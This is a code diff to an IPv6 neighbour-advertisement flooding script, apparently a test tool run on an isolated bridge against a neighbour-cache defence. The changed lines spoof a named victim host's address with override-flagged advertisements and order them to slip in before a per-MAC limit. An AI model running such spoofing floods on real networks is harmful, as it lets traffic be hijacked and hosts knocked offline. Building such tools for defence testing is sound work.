@@ -3,7 +3,7 @@
 usage: na_flood.py IFACE PREFIX64 COUNT SECONDS VICTIM_ADDR
 
 For SECONDS, over and over: from this host's own MAC, an unsolicited
-advertisement (override set) for each of COUNT addresses in PREFIX64 and
+advertisement (override set) for each of COUNT addresses high in PREFIX64 and
 for VICTIM_ADDR (a real host's address); and COUNT advertisements from
 random source MACs for random addresses. All go to ff02::1 with hop limit
 255, as RFC 4861 wants them, on the test bridge only.
@@ -45,8 +45,11 @@ def main() -> None:
     s.bind((iface, 0))
     own = open(f"/sys/class/net/{iface}/address").read().strip()
     own_mac = bytes.fromhex(own.replace(":", ""))
-    mine = [na(own_mac, (net + 0x1000 + i).to_bytes(16, "big")) for i in range(count)]
-    mine.append(na(own_mac, ipaddress.IPv6Address(victim).packed))
+    # High interface ids: they sort after every real address, so a forger
+    # that took the first free claim would take its victim's.
+    mine = [na(own_mac, (net + (0xFFFF << 48) + i).to_bytes(16, "big")) for i in range(count)]
+    # The victim's address first, before the per-MAC cap is reached.
+    mine.insert(0, na(own_mac, ipaddress.IPv6Address(victim).packed))
     end = time.monotonic() + seconds
     while time.monotonic() < end:
         for f in mine:
